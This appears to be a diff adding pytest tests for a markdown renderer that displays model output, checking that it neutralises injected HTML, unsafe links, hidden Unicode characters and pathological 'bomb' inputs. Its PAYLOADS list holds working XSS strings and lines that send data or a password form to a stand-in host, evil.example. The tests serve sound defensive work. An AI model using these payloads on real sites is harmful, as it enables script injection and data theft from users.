@@ -1,0 +1,119 @@
+"""Model output never acts: not as markup, not as a request, not on the eye."""
+
+import time
+from html.parser import HTMLParser
+
+import pytest
+
+from labeling.markdown import render
+
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    '<iframe src="https://evil.example"></iframe>',
+    "![x](https://evil.example/?q=secret)",
+    "![x][1]\n\n[1]: https://evil.example/p.png",
+    "[![x](https://evil.example/a)](https://evil.example/b)",
+    "[x](javascript:alert(1))",
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](java\nscript:alert(1))",
+    "[x](&#106;avascript:alert(1))",
+    "[x](vbscript:msgbox(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    '[x](https://a.example "onmouseover=alert(1)")',
+    "<javascript:alert(1)>",
+    '<https://a.example/" onclick=alert(1)>',
+    "`<b onclick=alert(1)>`",
+    '```html" onload="alert(1)\n<script>alert(1)</script>\n```',
+    "<style>@import 'https://evil.example/x.css'</style>",
+    '<form action="https://evil.example"><input name=password></form>',
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    "a\n|-|\n|<img src=x onerror=alert(1)>|",
+]
+ALLOWED = {"href", "rel", "start", "class"}
+
+
+class Seen(HTMLParser):
+    """Tags and attributes of a piece of HTML."""
+
+    def __init__(self, html: str) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: dict[str, str | None] = {}
+        self.feed(html)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes.update(attrs)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_payloads_are_inert(payload: str) -> None:
+    seen = Seen(render(payload))
+
+    assert seen.tags <= {"p", "a", "code", "pre", "table", "thead", "tbody", "tr", "th", "td", "br"}
+    assert seen.attributes.keys() <= ALLOWED
+    assert str(seen.attributes.get("href", "https:")).startswith("https:")
+
+
+def test_markdown_is_rendered() -> None:
+    assert render("**a** `b`\n\n- c\n\n3. d") == (
+        "<p><strong>a</strong> <code>b</code></p>\n<ul>\n<li>c</li>\n</ul>\n"
+        '<ol start="3">\n<li>d</li>\n</ol>\n'
+    )
+
+
+def test_links_tell_nobody_where_they_come_from() -> None:
+    assert render("[a](https://b.example)") == (
+        '<p><a href="https://b.example" rel="noopener noreferrer nofollow">a</a></p>\n'
+    )
+
+
+def test_tables() -> None:
+    assert Seen(render("|a|b|\n|-|-|\n|1|2|")).tags >= {"table", "th", "td"}
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("a\u202eb", "a[U+202E]b"),
+        ("a\u200bb", "a[U+200B]b"),
+        ("a\u200db", "a[U+200D]b"),
+        ("\x1b[31mred", "[U+001B][31mred"),
+        ("👩\u200d🍳", "👩\u200d🍳"),  # a joiner inside an emoji is the emoji
+        ("\ue0002E\ue001", "[U+E000]2E[U+E001]"),  # nobody forges a marker
+    ],
+)
+def test_hidden_characters_are_shown(text: str, shown: str) -> None:
+    expected = shown.replace("[U+", '<span class="hidden-character">U+').replace("]", "</span>", 9)
+    if "[31m" in shown:
+        expected = '<span class="hidden-character">U+001B</span>[31mred'
+    assert render(text) == f"<p>{expected}</p>\n"
+
+
+@pytest.mark.parametrize(
+    "bomb",
+    [
+        ">" * 10_000,
+        "> " * 10_000,
+        "[" * 10_000,
+        "*a " * 10_000,
+        "![" * 10_000,
+        "[a](" * 5_000,
+        "a" * 1_000_000,
+        "a\n" * 30_000,
+        "- a\n" * 15_000,
+        "|".join("a" * 50) + "\n" + "|".join("-" * 50) + "\n" + ("|".join("a" * 50) + "\n") * 2_000,
+    ],
+    ids=lambda bomb: repr(bomb[:6]),
+)
+def test_bombs_render_in_half_a_second(bomb: str) -> None:
+    start = time.perf_counter()
+    render(bomb)
+    assert time.perf_counter() - start < 0.5
+
+
+def test_a_bomb_is_shown_as_text() -> None:
+    assert render("<b>" + "[" * 10_000).startswith('<div class="verbatim">&lt;b&gt;[[[[')
